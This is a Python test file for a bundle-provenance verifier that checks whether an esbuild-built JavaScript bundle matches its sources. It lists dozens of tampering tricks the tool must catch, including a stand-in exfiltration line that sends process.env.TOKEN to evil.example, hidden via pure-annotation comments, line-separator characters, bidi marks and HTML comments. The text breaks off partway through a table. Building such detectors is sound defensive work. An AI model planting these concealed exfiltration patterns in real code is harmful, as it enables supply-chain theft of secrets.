"""What strangers try so that a bundle is called traced: each is one change of a genuine one, and must be shown.

A bundle is traced in several ways, and the best one counts: so each trick is tried in both, as the text is and after
esbuild has rewritten both sides.
"""

# ruff: noqa: E501 - tables of tricks, one a line

from __future__ import annotations

from collections.abc import Mapping

import pytest

from provenly.trust.errors import Error
from provenly.verify.dependencies.model import LockedPackage
from provenly.verify.esbuild.releases import nearest
from provenly.verify.tracing.prepass import Prepass
from provenly.verify.tracing.result import Traced
from provenly.verify.tracing.trace import Tracing

pytestmark = pytest.mark.registry

WAYS = ("plain", "esbuild")

SOURCES = {
    "src/index.ts": """\
import { send, discard, type Mail } from "./mail.js";
import { isAllowed, LIMITS } from "./policy.js";
import * as http from "node:http";
import * as https from "node:https";
import { parse } from "parser";
export { send } from "./mail.js";
const started = Date.now();
const PUBLIC = "https://mail.example/public";
const SECRET = "https://mail.example/secret";
export async function main(mail: Mail): Promise<string> {
  if (!isAllowed(mail.to)) throw new Error("not allowed: " + mail.to);
  const answer = await send(parse(mail.subject));
  if (mail.bounce) await discard(mail.to);
  return answer + (Date.now() - started);
}
export function reach(a: string) { return http.get(PUBLIC + a) || https.get(SECRET + a); }
export const later = async () => (await import("./later.js")).start(1);
process.on("exit", () => console.error(LIMITS.first));
""",
    "src/mail.ts": """\
export interface Mail { to: string; subject: string; bounce: boolean }
export async function send(mail: string): Promise<string> { return (await fetch("https://mail.example/send", { method: "POST", body: mail })).statusText; }
export async function discard(mail: string): Promise<string> { return (await fetch("https://mail.example/discard", { method: "DELETE", body: mail })).statusText; }
export const alias = discard;
""",
    "src/policy.ts": """\
const ALLOWED = ["example.org", "example.net"];
export function isAllowed(address: string): boolean { return ALLOWED.some((domain) => address.endsWith("@" + domain)); }
export function anyone(address: string): boolean { return address.length > 0 || process.argv.includes("--anyone"); }
export const LIMITS = { first: 10, second: 20 };
""",
    "src/later.ts": "export function start(a: number) { return console.error('later ' + a); }\n",
    "src/never.ts": "export function start(a: number) { return process.exit(a + 17); }\n",
}

PACKAGES = {
    "parser@1.2.3": {
        "package.json": '{"name": "parser", "version": "1.2.3", "main": "index.js"}',
        "index.js": "'use strict';\nvar http = require('http');\nvar https = require('https');\n"
        "exports.parse = function (text) { return JSON.parse(text.trim(), https.globalAgent); };\n"
        "exports.run = function () { process.exit(http.globalAgent ? 1 : 2); };\n",
    }
}

BUNDLE = """\
import * as http from "node:http";
import * as https from "node:https";
var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __getProtoOf = Object.getPrototypeOf;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
  mod
));

// node_modules/parser/index.js
var require_parser = __commonJS({
  "node_modules/parser/index.js"(exports) {
    "use strict";
    var http2 = require("http");
    var https2 = require("https");
    exports.parse = function(text) {
      return JSON.parse(text.trim(), https2.globalAgent);
    };
    exports.run = function() {
      process.exit(http2.globalAgent ? 1 : 2);
    };
  }
});

// src/mail.ts
async function send(mail) {
  return (await fetch("https://mail.example/send", { method: "POST", body: mail })).statusText;
}
async function discard(mail) {
  return (await fetch("https://mail.example/discard", { method: "DELETE", body: mail })).statusText;
}

// src/policy.ts
var ALLOWED = ["example.org", "example.net"];
function isAllowed(address) {
  return ALLOWED.some((domain) => address.endsWith("@" + domain));
}
var LIMITS = { first: 10, second: 20 };

// src/index.ts
var import_parser = __toESM(require_parser());
var started = Date.now();
var PUBLIC = "https://mail.example/public";
var SECRET = "https://mail.example/secret";
async function main(mail) {
  if (!isAllowed(mail.to)) throw new Error("not allowed: " + mail.to);
  const answer = await send((0, import_parser.parse)(mail.subject));
  if (mail.bounce) await discard(mail.to);
  return answer + (Date.now() - started);
}
function reach(a) {
  return http.get(PUBLIC + a) || https.get(SECRET + a);
}
var later = async () => (await import("./later-ABC.js")).start(1);
process.on("exit", () => console.error(LIMITS.first));
export { later, main, reach, send };
"""
LATER = """\
// src/later.ts
function start(a) {
  return console.error("later " + a);
}
export { start };
"""
ANYONE = """\
function anyone(address) {
  return address.length > 0 || process.argv.includes("--anyone");
}
"""
NEVER = LATER.replace("later.ts", "never.ts").replace('console.error("later " + a)', "process.exit(a + 17)")


class Desk:
    """Traces bundles in both ways."""

    def __init__(self, tools) -> None:
        self._tracers = tools.tracers
        self._prepass = Prepass(tools.esbuild, nearest("0.25.8"))

    def trace(
        self,
        way: str,
        bundle: str,
        sources: Mapping[str, str] = SOURCES,
        packages: Mapping[str, Mapping[str, str]] = PACKAGES,
        **others: str,
    ) -> Mapping[str, Traced | Error]:
        """Return what is said of ``dist/index.js`` and the others."""
        locked = {}
        for owner, files in packages.items():
            name, _, version = owner.rpartition("@")
            package = LockedPackage(name=name, version=version, place=f"node_modules/{name}")
            locked[package] = {path: text.encode() for path, text in files.items()}
        bundles = {"dist/index.js": bundle, **others}
        return Tracing(self._tracers, None, self._prepass if way == "esbuild" else None).run(
            {path: text.encode() for path, text in bundles.items()},
            {path: text.encode() for path, text in sources.items()},
            list(locked),
            lambda asked: [(package, locked[package]) for package in asked],
        )

    def clean(self, way: str, bundle: str, *of: object, **others: str) -> bool:
        """Whether nothing of a bundle comes from nowhere."""
        found = self.trace(way, bundle, *of, **others)
        return not any(isinstance(one, Error) or one.pieces or one.untraced for one in found.values())


@pytest.fixture(scope="session")
def desk(tools) -> Desk:
    return Desk(tools)


def altered(old: str, new: str, text: str = BUNDLE) -> str:
    assert text.count(old) == 1, old
    return text.replace(old, new)


@pytest.mark.parametrize("way", WAYS)
def test_the_genuine_bundle_is_traced(desk, way):
    assert desk.clean(way, BUNDLE, **{"dist/later-ABC.js": LATER})


EVIL = 'fetch("https://evil.example/" + process.env.TOKEN)'

TRICKS: Mapping[str, tuple[str, str]] = {
    # What tools are told by comments.
    "a pure call": ("var started", f"/* @__PURE__ */ (() => {{ {EVIL}; }})();\nvar started"),
    "a pure call, spelled otherwise": ("var started", f"/* #__PURE__ */ (() => {{ {EVIL}; }})();\nvar started"),
    "a pure call in a function": ("  const answer", f"  /* @__PURE__ */ (() => {{ {EVIL}; }})();\n  const answer"),
    "a pure construction": ("var started", '/* @__PURE__ */ new Function("evil()")();\nvar started'),
    "a pure template": ("var started", "/* @__PURE__ */ eval?.`evil()`;\nvar started"),
    "a genuine function without side effects that is called": ("async function discard", "/* @__NO_SIDE_EFFECTS__ */ async function discard"),
    "a label that lies": ("// src/index.ts", f"// node_modules/parser/index.js\n{EVIL};\n// src/index.ts"),
    "a label of no file": ("// src/index.ts", f"// src/nothing.ts\n{EVIL};\n// src/index.ts"),
    "a label with a genuine statement of another file": ("// src/index.ts", "// node_modules/parser/index.js\nprocess.exit(http.globalAgent ? 1 : 2);\n// src/index.ts"),
    "a source map": ("export { later", f"{EVIL};\n//# sourceMappingURL=data:application/json;base64,e30=\nexport {{ later"),
    "code after a source map": ("reach, send };\n", f"reach, send }};\n//# sourceMappingURL=index.js.map\n{EVIL};\n"),
    # What ends comments and lines.
    "U+2028 ends a comment": ("// src/index.ts", f"// a\u2028{EVIL};\n// src/index.ts"),
    "U+2029 ends a comment": ("// src/index.ts", f"// a\u2029{EVIL};\n// src/index.ts"),
    "a carriage return ends a comment": ("// src/index.ts", f"// a\r{EVIL};\n// src/index.ts"),
    "a label ends in a carriage return": ("// src/index.ts", f"// src/index.ts\r{EVIL};\n// src/index.ts"),
    "a byte order mark": ("var started", f"\ufeff{EVIL};\nvar started"),
    "bidirectional marks": ("// src/index.ts", f"/* \u202e }} \u2066 */ {EVIL}; // \u2069\n// src/index.ts"),
    "an address of HTML": ("var started", f"/* <!-- */ {EVIL};\nvar started"),
    # Names.
    "a call of another function that is there": ("if (mail.bounce) await discard", "if (mail.bounce) await send"),
    "another member of a module": ("import_parser.parse)", "import_parser.run)"),
    "another function under the name of one": ("async function discard(mail)", "async function send(mail)"),
    "a variable over a function": ("var started", "var send = discard;\nvar started"),
    "an assignment over a function": ("var started", "send = discard;\nvar started"),
    "an alias over a module": ("var import_parser", "require_parser = discard;\nvar import_parser"),
    "an alias over a module, where the alias is": ("// src/policy.ts", "require_parser = discard;\n\n// src/policy.ts"),
    "a function over a module": ("// src/policy.ts", 'async function require_parser(mail) {\n  return (await fetch("https://mail.example/discard", { method: "DELETE", body: mail })).statusText;\n}\n// src/policy.ts'),
    "an import that is declared twice": ('var https2 = require("https");', 'var https2 = require("https");\n    var https2 = require("http");'),
    "an import over an import": ('import * as https from "node:https";', 'import * as https from "node:http";'),
    "a module under another's name": ('import * as http from "node:http";', 'import * as http from "node:child_process";'),
    "a default import for a namespace": ('import * as https from "node:https";', 'import https from "node:net";'),
    "a relative module for one of Node.js": ('require("https")', 'require("./https")'),
    "a file of the package for one of Node.js": ('require("https")', 'require("./later-ABC.js")'),
    "an import for its effects": ("var started", 'import "node:child_process";\nvar started'),
    "an export of another function": ("reach, send }", "reach, discard as send }"),
    "an export of another file": ("later, main,", "later, reach as main,"),
    "a shadowed global": ("var started", "var Date = http;\nvar started"),
    "a shadowed global as a parameter": ("async function main(mail)", "async function main(mail, Error)"),
    "a shadowed name in a function": ("  const answer", "  var isAllowed = () => true;\n  const answer"),
    "a default that shadows": ("async function main(mail)", "async function main(mail, send = discard)"),
    "a pattern with a getter": ("async function main(mail)", "async function main({ ...mail })"),
    "exchanged texts": ('var PUBLIC = "https://mail.example/public";\nvar SECRET = "https://mail.example/secret";', 'var PUBLIC = "https://mail.example/secret";\nvar SECRET = "https://mail.example/public";'),
    "exchanged names of texts": ("http.get(PUBLIC + a) || https.get(SECRET + a)", "http.get(SECRET + a) || https.get(PUBLIC + a)"),
    "exchanged modules": ("http.get(PUBLIC + a) || https.get(SECRET + a)", "https.get(PUBLIC + a) || http.get(SECRET + a)"),
    "another allowed function": ("isAllowed(mail.to)", "anyone(mail.to)"),
    "an allowed list of its own": ("ALLOWED.some", '["example.com"].some'),
    "a member of another object": ("LIMITS.first", "ALLOWED.first"),
    # Statements.
    "a doubled statement": ('process.on("exit"', 'process.on("exit", () => console.error(LIMITS.first));\nprocess.on("exit"'),
    "a statement of a dependency's function at the top": ("var started", "process.exit(http.globalAgent ? 1 : 2);\nvar started"),
    "a call of a dependency's function at the top": ("var started", "import_parser.run();\nvar started"),
    "a call of a function at the top": ("var started", 'discard("x");\nvar started'),
    "a request": ("var started", f"{EVIL};\nvar started"),
    "a request in a class": ("var started", f"class Later {{ static {{ {EVIL}; }} }}\nvar started"),
    "a request in a field": ("var started", f"class Later {{ static a = {EVIL}; }}\nvar started"),
    "a request in a computed name": ("var started", f"class Later {{ [{EVIL}]() {{}} }}\nvar started"),
    "a request in a heritage clause": ("var started", f"class Later extends ({EVIL}, Object) {{}}\nvar started"),
    "a request in a getter": ("{ first: 10, second: 20 }", f"{{ get first() {{ {EVIL}; return 10; }}, second: 20 }}"),
    "a request in a default": ("function reach(a)", f"function reach(a = {EVIL})"),
    "a request in a pattern": ("var started = Date.now();", f"var {{ [{EVIL}]: started = Date.now() }} = {{}};"),
    "a request in a tag": ("var started", f"(() => {EVIL})``;\nvar started"),
    "a request in a loop": ("var started", f"for (;; {EVIL}) break;\nvar started"),
    "a request behind a label": ("var started", f"a: {EVIL};\nvar started"),
    "a request behind with": ("var started", f"with (process) {EVIL};\nvar started"),
    "a request by eval": ("var started", 'eval("fetch(1)");\nvar started'),
    "a request before a directive": ('"use strict";', f'{EVIL}; "use strict";'),
    "a request in an await": ("var started", f"await {EVIL};\nvar started"),
    "a request in void": ("var started", f"void {EVIL};\nvar started"),
    "a request in a chain": ("var started", f"globalThis?.[{EVIL}];\nvar started"),
    "a request in a switch": ("var started", f"switch (1) {{ case {EVIL}: }}\nvar started"),
    "a request in a catch": ("var started", f"try {{ throw 1 }} catch {{ {EVIL} }}\nvar started"),
    "a request in a module that is a function": ('"use strict";', f'"use strict"; {EVIL};'),
    "a request in a helper": ("  return to;", f"  {EVIL};\n  return to;"),
    "a request in the start of a module": ("__toESM(require_parser())", f"__toESM(require_parser({EVIL}))"),
    "a request after the start of a module": ("__toESM(require_parser())", f"__toESM((require_parser(), {EVIL}))"),
    "a request in import()": ('import("./later-ABC.js")', f'import("./later-ABC.js", {EVIL})'),
    "a request in a helper's options": ("__toESM(require_parser())", f"__toESM(require_parser(), {EVIL})"),
    "a request in a label of a module": ('"node_modules/parser/index.js"(exports)', f"[{EVIL}](exports)"),
    "a request in a default of a module": ('"node_modules/parser/index.js"(exports)', f'"node_modules/parser/index.js"(exports = {EVIL})'),
    "a request in another member of a module": ('    "use strict";\n    var http2', f'    "use strict";\n  }}, [{EVIL}]: 1, x() {{\n    var http2'),
    "a request beside a module": ("  }\n});\n\n// src/mail.ts", f"  }}\n}}, {EVIL});\n\n// src/mail.ts"),
    "a request beside an import": ('require("https")', f'require("https", {EVIL})'),
    "a request before an import": ('require("https")', f'({EVIL}, require("https"))'),
    "global as a block": ("var started", f"global\n{{ {EVIL} }}\nvar started"),
    "another module imported later": ('import("./later-ABC.js")', 'import("node:child_process")'),
    "an export of a module that is assigned anew": ("    exports.run = ", "    exports.parse = exports.run;\n    exports.run = "),
    "a module's exports exchanged": ("exports.parse = function", "exports.run = function"),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(("old", "new"), TRICKS.values(), ids=TRICKS)
def test_a_trick_is_shown(desk, way, old, new):
    bundle = altered(old, new)
    if "anyone(" in bundle:
        bundle = altered("var LIMITS", f"{ANYONE}var LIMITS", bundle)
    if "NO_SIDE_EFFECTS" in bundle:
        bundle = altered("var started", 'discard("x");\nvar started', bundle)
    assert not desk.clean(way, bundle, **{"dist/later-ABC.js": LATER})


LOADED = """\
var __defProp = Object.defineProperty;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __esm = (fn, res) => function __init() {
  return fn && (res = (0, fn[__getOwnPropNames(fn)[0]])(fn = 0)), res;
};
var __export = (target, all) => {
  for (var name in all)
    __defProp(target, name, { get: all[name], enumerable: true });
};

// src/later.ts
var later_exports = {};
__export(later_exports, { start: () => start });
function start(a) {
  return log("later " + a);
}
var log;
var init_later = __esm({ "src/later.ts"() { log = console.error.bind(console, "later"); } });

// src/index.ts
var run = async () => (await Promise.resolve().then(() => (init_later(), later_exports))).start(1);
export { run };
"""
LOADING = {
    "src/index.ts": "export const run = async () => (await import('./later.js')).start(1);\n",
    "src/later.ts": "let log = console.error.bind(console, 'later');\nexport function start(a: number) { return log('later ' + a); }\n",
}
LOADS = {
    "a request in a table": ("__export(later_exports, {", f"__export(later_exports, {EVIL}, {{"),
    "a request after a table": ("start: () => start });", f"start: () => start }}, {EVIL});"),
    "a request in a table's function": ("start: () => start }", f"start: () => ({EVIL}, start) }}"),
    "a request in a table's name": ("{ start: () => start }", f"{{ [{EVIL}]: () => start }}"),
    "a request in a table's default": ("start: () => start }", f"start: (a = {EVIL}) => start }}"),
    "a request beside a table": ("{ start: () => start }", f"{{ start: () => start, ...{EVIL} }}"),
    "another function in a table": ("start: () => start }", "start: () => run }"),
    "a request in what starts a module": ("(init_later(), later_exports)", f"(init_later({EVIL}), later_exports)"),
    "a request before a module": ("(init_later(), later_exports)", f"(init_later(), {EVIL}, later_exports)"),
    "a request while a module starts": ('log = console.error.bind(console, "later");', f'log = console.error.bind(console, "later"); {EVIL};'),
    "a request in a late module's label": ('"src/later.ts"() {', f"[{EVIL}]() {{"),
    "a request in a resolved promise": ("Promise.resolve()", f"Promise.resolve({EVIL})"),
    "a request beside what a promise does": ("(init_later(), later_exports))", f"(init_later(), later_exports), {EVIL})"),
    "a promise of one's own": ("// src/later.ts", "var Promise = globalThis.Thenable;\n// src/later.ts"),
    "a table over a table": ("var log;", "__export(later_exports, { start: () => run });\nvar log;"),
    "a table that is assigned": ("var log;", "later_exports = globalThis;\nvar log;"),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(("old", "new"), LOADS.values(), ids=LOADS)
def test_a_trick_with_modules_that_start_late_is_shown(desk, way, old, new):
    assert desk.clean(way, LOADED, LOADING, {})
    assert not desk.clean(way, altered(old, new, LOADED), LOADING, {})


UNSEEN = {
    "a statement that is left out": ('process.on("exit", () => console.error(LIMITS.first));\n', ""),
    "a module that is left out": (BUNDLE[BUNDLE.index("// node_modules/parser") : BUNDLE.index("// src/mail.ts")], "var require_parser;\n"),
    "a module that is not started": ("var import_parser = __toESM(require_parser());\n", "var import_parser;\n"),
    "genuine code that nobody imports": ("// src/index.ts", ANYONE.join(("// src/policy.ts\n", "// src/index.ts"))),
    "an export that no source has": ("later, main,", "later, main, discard as default,"),
}  # fmt: skip


@pytest.mark.parametrize(("old", "new"), UNSEEN.values(), ids=UNSEEN)
def test_what_tracing_cannot_see_is_as_the_documents_say(desk, old, new):
    """Whoever makes one of these visible takes it out of here and out of docs/limitations.md."""
    bundle = altered(old, new)
    if "require_parser;" in bundle or "import_parser;" in bundle:
        bundle = bundle.replace("(0, import_parser.parse)", "import_parser.parse")
        pytest.skip("a name that nothing declares a value of is shown")
    assert desk.clean("plain", bundle, **{"dist/later-ABC.js": LATER})


ORDERED = (
    "const seen = new Map();\nseen.set('guard', 1);\nseen.set(process.argv[2], 2);\nObject.freeze(seen);\n"
    "export function look(a, b) { return seen.get(a) ? b.call(a, seen) : a.call(b, 1); }\n"
)
STRICT = {
    "statements of a module in another order": (ORDERED, ("seen.set('guard', 1);\nseen.set(process.argv[2], 2);", "seen.set(process.argv[2], 2);\nseen.set('guard', 1);")),
    "a function that only looks like a helper": (
        "var __toESM = (mod, isNodeMode, target) => (process.emit('x'), mod.__esModule ? mod : { default: mod, enumerable: isNodeMode, target });\nexport const a = __toESM({ b: 1 }, 2);\n",
        ("__toESM({ b: 1 }, 2)", "__toESM({ b: 2 }, 2)"),
    ),
    "a require of one's own": ("import { load } from 'node:fs';\nexport const run = () => 1 + load(import.meta.url);\n", ("export const run", "var own = load(import.meta.url);\nown('child_process');\nexport const run")),
    "two variables for one": ("let open;\nexport function set(a) { open = a.b(1); }\nexport function get(a) { return open.c(a, 2); }\n", ("return open.c", "return open2.c")),
    "one parameter for two in parts": ("export function f(a, b) { g(a, 1); h(b, 2); return a.then(() => b.c(a), 3); }\n", ("h(b, 2)", "h(b, 3); h(a, 2)")),
}  # fmt: skip
"""Sources, and what is replaced by what in their bundle, which else is the same."""


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(("text", "edit"), STRICT.values(), ids=STRICT)
def test_a_module_is_held_to_its_source(desk, way, text, edit):
    sources = {"src/a.js": text}
    assert desk.clean(way, text, sources, {})
    changed = altered(*edit, text)
    if "open2" in changed:
        changed = altered("let open;", "let open, open2;", changed)
    assert not desk.clean(way, changed, sources, {})


OUTSIDE = {
    "src/a.js": "import * as http from 'node:http';\nimport { open } from 'box';\nexport const a = (b) => http.get(b, open(b));\n",
    "src/b.js": "import * as https from 'node:https';\nexport const b = https.globalAgent.maxSockets;\n",
}
BOX = {
    "box@1.0.0": {
        "package.json": '{"name": "box", "version": "1.0.0", "exports": {".": "./index.js", "./raw": "./raw.js"}}',
        "index.js": "export function open(a) { return a.checked ? a.value : undefined; }\n",
        "raw.js": "export function open(a) { return process.kill(a.value, 1); }\n",
    }
}
USED = """\
import * as http from "node:http";
import * as https from "node:https";
// node_modules/box/index.js
function open(a) { return a.checked ? a.value : void 0; }
// node_modules/box/raw.js
function raw(a) { return process.kill(a.value, 1); }
// src/a.js
USES
"""


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(("member", "function", "genuine"), [("http.get", "open", True), ("http.request", "open", False), ("https.get", "open", False), ("http.get", "raw", False)])  # fmt: skip
def test_a_name_of_another_module_is_what_it_is_there(desk, way, member, function, genuine):
    bundle = USED.replace("USES\n", f"var a = (b) => {member}(b, {function}(b));\nexport {{ a }};\n")
    assert desk.clean(way, bundle, OUTSIDE, BOX) is genuine


@pytest.mark.parametrize("way", WAYS)
def test_another_chunk_is_no_substitute(desk, way):
    assert not desk.clean(way, BUNDLE, **{"dist/later-ABC.js": NEVER})
    assert desk.clean(way, BUNDLE.replace("later-ABC", "other"), **{"dist/other.js": LATER})


MAIL = """\
// src/mail.ts
async function send(mail) {
  return (await fetch("https://mail.example/send", { method: "POST", body: mail })).statusText;
}
async function discard(mail) {
  return (await fetch("https://mail.example/discard", { method: "DELETE", body: mail })).statusText;
}
"""
PASSED = {
    "export of both": ({"dist/mail.js": MAIL + "export { send as s, discard as d };\n"}, True),
    "export of the other": ({"dist/mail.js": MAIL + "export { discard as s, send as d };\n"}, False),
    "passed on": ({"dist/mail.js": 'export { a as s, b as d } from "./deep.js";\n', "dist/deep.js": MAIL + "export { send as a, discard as b };\n"}, True),
    "passed on exchanged": ({"dist/mail.js": 'export { b as s, a as d } from "./deep.js";\n', "dist/deep.js": MAIL + "export { send as a, discard as b };\n"}, False),
    "all passed on": ({"dist/mail.js": 'export * from "./deep.js";\n', "dist/deep.js": MAIL + "export { send as s, discard as d };\n"}, True),
    "all passed on exchanged": ({"dist/mail.js": 'export * from "./deep.js";\n', "dist/deep.js": MAIL + "export { send as d, discard as s };\n"}, False),
    "not exported": ({"dist/mail.js": MAIL}, False),
    "of a module of Node.js": ({"dist/mail.js": 'export { get as s, request as d } from "node:http";\n'}, False),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(("others", "genuine"), PASSED.values(), ids=PASSED)
def test_what_a_chunk_gives_under_a_name_counts(desk, way, others, genuine):
    start, end = BUNDLE.index("// src/mail.ts"), BUNDLE.index("// src/policy.ts")
    bundle = 'import { s as send, d as discard } from "./mail.js";\n' + BUNDLE[:start] + BUNDLE[end:]
    assert desk.clean(way, bundle, **{"dist/later-ABC.js": LATER}, **others) is genuine


SCRIPT = "function send(mail) { return fetch('https://mail.example/', { method: 'POST', body: mail }); }\n"


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    "text",
    [
        "send <!--globalThis[fetch('https://evil.example/')]\n;\n",
        "<!-- fetch('https://evil.example/')\n",
        "send\n--> fetch('https://evil.example/')\n",
        "/* \n */ --> fetch('https://evil.example/')\n",
    ],
    ids=["where a module has operators", "at a line's beginning", "its end", "its end after a comment"],
)
def test_comments_of_html_are_refused(desk, way, text):
    """In a module without imports and exports, Node.js runs what esbuild takes for such a comment."""
    sources = {"src/index.ts": SCRIPT}
    assert desk.clean(way, SCRIPT, sources, {})
    assert desk.clean(way, SCRIPT + "var page = 1;\n", {"src/index.ts": SCRIPT + "var page = 1;\n"}, {})
    if way == "esbuild" and "-->" in text:
        pytest.skip("Node.js refuses it in a module, and takes it for a comment in a script, as esbuild does")
    assert not desk.clean(way, SCRIPT + text, sources, {})


@pytest.mark.parametrize("way", WAYS)
def test_a_text_of_html_is_no_comment(desk, way):
    text = "var page = `<!-- a comment --><p>${process.argv[2]}</p>`;\nsend(page + page, '<!--');\n"
    assert desk.clean(way, SCRIPT + text, {"src/index.ts": SCRIPT + text}, {})


STATEMENTS: Mapping[str, tuple[str, str]] = {
    "flags of a regular expression": ("return /^admin@/.test(a)", "return /^admin@/i.test(a)"),
    "a sticky regular expression": ("return /^admin@/g.test(a)", "return /^admin@/y.test(a)"),
    "minus zero": ("return Object.is(a, 0)", "return Object.is(a, -0)"),
    "infinity": ("return a < 1e308", "return a < 1e309"),
    "a number in another base": ("return a === 0x10", "return a === 0o10"),
    "a number of many digits": ("return a === 9007199254740993", "return a === 9007199254740994"),
    "a large integer": ("return a === 10n", "return a === 0x10n"),
    "a number for a text": ("return a === 1", "return a === '1'"),
    "a text for a key": ("return a[0]", "return a['00']"),
    "a raw text": ("return String.raw`\\n${a}`", "return String.raw`\n${a}`"),
    "a tag": ("return a`x${1}`", "return `x${1}`"),
    "U+2028 in a text": ("return a + 'b c'", "return a + 'b\u2028c'"),
    "a letter that looks alike": ("return a.admin", "return a.\u0430dmin"),
    "a name of another normal form": ("return a.caf\u00e9", "return a.cafe\u0301"),
    "an escaped name": ("return a.send", "return a.\\u0073end2"),
    "a prototype": ("return { __proto__: a }", "return { ['__proto__']: a }"),
    "a prototype in short": ("const __proto__ = a; return { __proto__ }", "const b = a; return { __proto__: b }"),
    "a member of the prototype": ("return a.constructor", "return a.__proto__"),
    "an optional chain": ("return a.b.c()", "return a?.b.c()"),
    "an optional call": ("return a.b()", "return a.b?.()"),
    "an optional member": ("return a[b]", "return a?.[b]"),
    "where an optional chain ends": ("return a?.b.c", "return (a?.b).c"),
    "?? and ||": ("return a ?? b", "return a || b"),
    "|| and &&": ("return a || b", "return a && b"),
    "??= and ||=": ("a.b ??= b; return a", "a.b ||= b; return a"),
    "= and ??=": ("a.b = b; return a", "a.b ??= b; return a"),
    "equal and identical": ("return a === b", "return a == b"),
    "less and at most": ("return a < b", "return a <= b"),
    "instanceof and in": ("return a instanceof b", "return a in b"),
    "and of numbers": ("return a & b", "return a && b"),
    "a dropped await": ("return (async () => { await a(); b() })()", "return (async () => { a(); b() })()"),
    "a dropped async": ("return async () => a()", "return () => a()"),
    "a dropped await of a loop": ("return (async () => { for await (const c of a) b(c) })()", "return (async () => { for (const c of a) b(c) })()"),
    "a dropped star": ("return function* () { yield a }", "return function () { return a }"),
    "a dropped star of a method": ("return { * c() { return a } }", "return { c() { return a } }"),
    "a dropped star of yield": ("return function* () { yield* a }", "return function* () { yield a }"),
    "a dropped spread": ("return a(...b)", "return a(b)"),
    "a dropped spread of a list": ("return [...a]", "return [a]"),
    "a dropped spread of an object": ("return { ...a, b }", "return { a, b }"),
    "the order of spreads": ("return { ...a, b: 1 }", "return { b: 1, ...a }"),
    "a dropped rest": ("return (...c) => a(c)", "return (c) => a(c)"),
    "a dropped static": ("return class { static c() { return a } }", "return class { c() { return a } }"),
    "a static block": ("return class { static { a(1) } }", "return class { constructor() { a(1) } }"),
    "a field that is private": ("return class { #c = a; d() { return this.#c } }", "return class { c = a; d() { return this.c } }"),
    "a getter": ("return { get c() { return a } }", "return { c() { return a } }"),
    "a setter": ("return { set c(d) { a(d) } }", "return { c(d) { a(d) } }"),
    "an order of fields": ("return class { c = a(); d = b() }", "return class { d = b(); c = a() }"),
    "an order of members": ("return { c: a(), d: b() }", "return { d: b(), c: a() }"),
    "a label": ("c: for (;;) { for (;;) { if (a) break c; b() } }", "for (;;) { c: for (;;) { if (a) break c; b() } }"),
    "break and continue": ("for (const c of a) { if (c) continue; b(c) }", "for (const c of a) { if (c) break; b(c) }"),
    "a dropped break": ("switch (a) { case 1: b(1); break; case 2: b(2) }", "switch (a) { case 1: b(1); case 2: b(2) }"),
    "an order of cases": ("switch (a) { case b(): return 1; case b(2): return 2 }", "switch (a) { case b(2): return 2; case b(): return 1 }"),
    "where the default is": ("switch (a) { default: b(1); case 2: b(2) }", "switch (a) { case 2: b(2); default: b(1) }"),
    "an order of parameters": ("return ((c, d) => c - d)(a, b)", "return ((d, c) => c - d)(a, b)"),
    "an order of defaults": ("return ((c = a(), d = b()) => c - d)()", "return ((d = b(), c = a()) => c - d)()"),
    "a default that is another": ("return ((c = a) => c)()", "return ((c = b) => c)()"),
    "an alternative": ("return a ? b : 1", "return a ? 1 : b"),
    "a branch": ("if (a) b(1); else b(2)", "if (a) b(2); else b(1)"),
    "a dropped finally": ("try { a() } finally { b() }", "try { a() } catch { b() }"),
    "a caught error": ("try { a() } catch (c) { b(c) }", "try { a() } catch { b(b) }"),
    "a swallowed error": ("try { a() } catch (c) { b(c); throw c }", "try { a() } catch (c) { b(c) }"),
    "a dropped throw": ("if (a) throw b; return 1", "if (a) b; return 1"),
    "a dropped new": ("return new a(b)", "return a(b)"),
    "a dropped not": ("return !a", "return !!a"),
    "a dropped void": ("return void a(b)", "return a(b)"),
    "a dropped typeof": ("return typeof a === 'x'", "return a === 'x'"),
    "a dropped delete": ("delete a.b; return a", "a.b; return a"),
    "arguments": ("return a(arguments)", "return a([...arguments])"),
    "this": ("return a.call(this)", "return a.call(globalThis)"),
    "what this is": ("return a.b(1)", "return (0, a.b)(1)"),
    "an arrow for a function": ("return function () { return this.a }", "return () => this.a"),
    "in and of": ("for (const c in a) b(c)", "for (const c of a) b(c)"),
    "do and while": ("do { b() } while (a())", "while (a()) { b() }"),
    "before and after": ("return a.b++", "return ++a.b"),
    "up and down": ("a.b++; return a", "a.b--; return a"),
    "an argument less": ("return a(b, true)", "return a(b)"),
    "an order of arguments": ("return a(b, 1)", "return a(1, b)"),
    "another parameter": ("return a.c + b.d", "return b.c + a.d"),
    "one parameter for both": ("return a.c + b.d", "return a.c + a.d"),
    "an order of effects": ("a(1); b(2)", "b(2); a(1)"),
    "an order of variables that are used once": ("const c = a(), d = b(); return [c, d]", "const d = b(), c = a(); return [c, d]"),
    "a variable that is used once before an effect": ("const c = a(); b(); return c", "b(); return a()"),
    "a variable that is used once after a check": ("const c = a.d; if (b()) return 0; return c", "if (b()) return 0; return a.d"),
    "a variable that is used once in a closure": ("const c = a(); return () => c", "return () => a()"),
    "a variable that is used once in a loop": ("const c = a(); for (const d of b) d(c)", "for (const d of b) d(a())"),
